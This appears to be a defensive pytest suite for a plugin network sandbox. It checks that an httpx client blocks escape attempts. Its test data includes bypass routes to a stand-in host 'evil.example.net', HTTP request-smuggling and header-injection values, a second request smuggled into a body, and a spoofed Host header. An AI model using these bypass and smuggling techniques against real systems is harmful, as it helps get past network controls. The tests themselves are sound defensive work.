"""Attack: request objects that a plugin manipulates, and requests sent without `get`."""

import pathlib
from collections.abc import Awaitable, Callable, Iterator
from typing import Any

import pytest

from nyx_stream.errors import NetworkDenied
from tests.capabilities.http.loopback import Server, loopback, reply
from tests.escape.http.egress import cases, plugin, tls_server

_EVIL = "https://evil.example.net/"


async def _auth_flow(client: Any, url: str) -> None:
    class Elsewhere(client.adapter.library.Auth):  # type: ignore[misc, name-defined]
        def auth_flow(self, request: Any) -> Iterator[Any]:
            yield request
            yield client.adapter.library.Request("GET", _EVIL)

    await client.get(url, auth=Elsewhere())


async def _hand_built(client: Any, _: str) -> None:
    await client.send(client.adapter.library.Request("GET", _EVIL))


async def _built(client: Any, _: str) -> None:
    await client.send(client.build_request("GET", _EVIL))


async def _transport_assigned(client: Any, _: str) -> None:
    client._transport = client.adapter.library.AsyncHTTPTransport()
    await client.get(_EVIL)


async def _url_subclass(client: Any, url: str) -> None:
    class Lying(client.adapter.library.URL):  # type: ignore[misc, name-defined]
        raw_host = property(lambda _: b"api.example.com")

    request = client.adapter.library.Request("GET", url)
    request.url = Lying(_EVIL)
    await client.send(request)


async def _netrc(client: Any, _: str) -> None:
    await client.get(_EVIL, auth=client.adapter.library.NetRCAuth(client.netrc_file))


_WAYS: dict[str, Callable[[Any, str], Awaitable[None]]] = {
    "auth=httpx.Auth subclass": _auth_flow,
    "client.send(httpx.Request('GET','https://evil.example.net/'))": _hand_built,
    "client.send(client.build_request(...))": _built,
    "client._transport": _transport_assigned,
    "httpx.NetRCAuth": _netrc,
}
# These aren't refusals of a request; the tests named here cover them.
_ELSEWHERE = {
    "response.stream...._pool": "test_no_attribute_leads_from_a_client_to_its_service",
    "shared cookie jar": "test_cookies_stay_with_the_plugin_that_got_them",
    "await client.aclose()": "test_a_plugin_that_closes_its_client_closes_nobody_elses",
}


@pytest.mark.parametrize("case", [one for one in cases("request") if one.values[0].get("via") not in _ELSEWHERE])
async def test_request_case(case: dict[str, Any], kind: Any, authority: Any, tmp_path: pathlib.Path) -> None:
    """Each way is a denial before any packet, or goes where the URL says with nothing but what was checked."""
    (tmp_path / "netrc").write_text("machine evil.example.net login a password b")
    async with tls_server(authority, reply(200, b"in")) as server:
        one = plugin(case, authority, server, kind)
        async with one.client() as client:
            if "via" in case or "request" in case:
                object.__setattr__(client, "netrc_file", str(tmp_path / "netrc"))
                with pytest.raises(NetworkDenied):
                    await _WAYS.get(case.get("via", ""), _url_subclass)(client, case["url"])
                assert [request.header("host") for request in server.requests] in ([], ["api.example.com"])
                assert len(one.denials) == 1
                return
            sent = client.request(
                case.get("method", "GET"),
                case["url"],
                headers=case.get("headers"),
                extensions={name: _callback if value == "<callable>" else value
                            for name, value in case.get("extensions", {}).items()},
            )  # fmt: skip
            if case["expect"] == "allow" or "extensions" in case:
                assert (await sent).text == "in"
                assert (server.requests[0].target, server.requests[0].header("host")) == ("/v1", "api.example.com")
            else:
                with pytest.raises(NetworkDenied) as caught:
                    await sent
                assert caught.value.request.method == case.get("method", "GET").upper()  # type: ignore[attr-defined]
                assert server.accepted == 0
                assert len(one.denials) == 1


async def _callback(*_: Any) -> None:
    raise AssertionError("a trace callback ran")


@pytest.mark.parametrize(
    "headers",
    [
        {"Upgrade": "websocket", "Connection": "Upgrade"},
        {"Upgrade": "h2c", "HTTP2-Settings": "AAMAAABkAAQAAP__", "Connection": "Upgrade, HTTP2-Settings"},
        {"Connection": "close, X-Secret"}, {"Keep-Alive": "1"}, {"Proxy-Authorization": "x"}, {"Proxy-Connection": "x"},
        {"TE": "trailers"}, {"Trailer": "X"}, {"Transfer-Encoding": "gzip, chunked"}, {"Transfer-Encoding": "identity"},
        {"Content-Length": "5", "Transfer-Encoding": "chunked"}, {"Content-Length": "+5"}, {"Content-Length": "5, 5"},
        [("Content-Length", "4"), ("Content-Length", "5")], [("Transfer-Encoding", "chunked")] * 2,
        {"X": "a\nb"}, {"X": "a\rb"}, {"X": "a\x00b"}, {"X Y": "a"}, {"X:": "a"}, {"": "a"}, {"X\r\n": "a"},
        {"X": "a" * 70_000}, [("X", "a")] * 300,
    ],
)  # fmt: skip
async def test_headers_that_are_not_sent(kind: Any, headers: Any) -> None:
    """Framing that two parsers read in two ways, headers of the connection, control characters, too many of them."""
    async with Server() as server:
        one = loopback(server, kind=kind)
        async with one.client() as client:
            with pytest.raises(NetworkDenied):
                await client.post(server.url, content=b"hello", headers=headers)
        assert server.accepted == 0
        assert len(one.denials) == 1


@pytest.mark.parametrize("headers", [{"Host": "admin.internal"}, [("host", "a"), ("HOST", "b")]])
async def test_host_is_the_urls(kind: Any, headers: Any) -> None:
    """Whatever Host the plugin sets, and however often, one is sent and it names the origin."""
    async with Server() as server, loopback(server, kind=kind).client() as client:
        await client.get(server.url, headers=headers)
        assert server.requests[0].header("host") == f"127.0.0.1:{server.port}"


@pytest.mark.parametrize("value", ["5", True, {"read": "5"}, {"read": float("nan")}, {"read": -1}, {"pool": True}])
async def test_a_timeout_extension_is_checked(kind: Any, value: Any) -> None:
    """Only seconds pass: the extension reaches code of ours that trusts it."""
    async with Server() as server, loopback(server, kind=kind).client() as client:
        with pytest.raises(NetworkDenied):
            await client.get(server.url, extensions={"timeout": value})
        assert server.accepted == 0


async def test_a_request_that_answers_differently_the_second_time(kind: Any) -> None:
    """Every attribute is read once: what was decided on is what is sent."""
    async with Server() as server:
        one = loopback(server, kind=kind)
        async with one.client() as client:
            library = client.adapter.library

            class Fickle(library.Request):  # type: ignore[misc, name-defined]
                reads = 0

                @property
                def url(self) -> Any:
                    type(self).reads += 1
                    return library.URL(server.url if type(self).reads == 1 else _EVIL)

                @url.setter
                def url(self, _: Any) -> None:
                    return

            request = Fickle("GET", server.url)
            Fickle.reads = 0
            response = await client._send_single_request(request)
            await response.aread()
        assert server.requests[0].header("host") == f"127.0.0.1:{server.port}"


@pytest.mark.parametrize("name", ["method", "headers", "extensions", "url"])
async def test_parts_that_are_subclasses_are_refused(kind: Any, name: str) -> None:
    """A subclass may override what it is compared and printed by."""
    async with Server() as server, loopback(server, kind=kind).client() as client:
        request = client.build_request("GET", server.url)
        if name == "url":
            request.url = type("U", (client.adapter.library.URL,), {})(server.url)
        else:
            part = getattr(request, name)
            setattr(request, name, type("Sub", (type(part),), {})(part))
        with pytest.raises(NetworkDenied):
            await client.send(request)
        assert server.accepted == 0


async def test_credentials_of_netrc_go_only_where_the_policy_leads(kind: Any, tmp_path: pathlib.Path) -> None:
    """NetRCAuth works for a granted host, and its header does not cross to another origin."""
    (tmp_path / "netrc").write_text("machine 127.0.0.1 login a password b")
    async with Server() as other, Server(reply(302, location=f"{other.url}/")) as server:
        one = loopback(server, kind=kind)
        one.policy = one.policy.allow_connect_host(f"127.0.0.1:{other.port}")
        async with one.client(follow_redirects=True) as client:
            await client.get(server.url, auth=client.adapter.library.NetRCAuth(str(tmp_path / "netrc")))
        assert server.requests[0].header("authorization") == "Basic YTpi"
        assert other.requests[0].header("authorization") is None


async def test_the_environments_proxies_are_not_used(kind: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """A proxy would take every request where no rule was asked."""
    for name in ("HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"):
        monkeypatch.setenv(name, "http://127.0.0.1:1")
    async with Server() as server, loopback(server, kind=kind).client() as client:
        assert (await client.get(server.url)).status_code == 200
        assert not client.trust_env


async def test_a_response_has_only_its_own_extensions(kind: Any) -> None:
    """No `network_stream`: the library's would lead to the connection."""
    async with (
        Server(reply(200, b"x" * 300_000)) as server,
        loopback(server, kind=kind).client() as client,
        client.stream("GET", server.url) as response,
    ):
        assert set(response.extensions) == {"http_version", "reason_phrase"}


async def test_a_request_smuggled_into_a_body_stays_a_body(kind: Any) -> None:
    """More bytes than the declared length are an error of the sender, not a second request."""

    async def pieces() -> Any:
        yield b"hello"
        yield b"GET /second HTTP/1.1\r\nHost: x\r\n\r\n"

    async with (
        Server(lambda r: reply(200, r.target.encode())) as server,
        loopback(server, kind=kind).client() as client,
    ):
        with pytest.raises(client.adapter.library.LocalProtocolError):
            await client.post(f"{server.url}/first", content=pieces(), headers={"Content-Length": "5"})
    assert "/second" not in [request.target for request in server.requests]


def test_every_way_of_the_table_is_tried() -> None:
    """A new `via` in the table has to be written here."""
    table: list[dict[str, Any]] = [parameter.values[0] for parameter in cases("request")]
    assert {case["via"] for case in table if "via" in case} == _WAYS.keys() | _ELSEWHERE.keys()


async def test_a_password_in_a_url_is_refused_and_not_told_on(kind: Any) -> None:
    """Neither the error nor the audit log repeats it."""
    async with Server() as server:
        one = loopback(server, kind=kind)
        async with one.client() as client:
            with pytest.raises(NetworkDenied) as caught:
                await client.get(server.url.replace("http://", "http://user:hunter2@"))
            with pytest.raises(NetworkDenied):
                await client.send(client.build_request("GET", server.url.replace("http://", "http://user:hunter2@")))
        assert server.accepted == 0
        assert "hunter2" not in str(caught.value)
        assert all("hunter2" not in event.target for event in one.events)
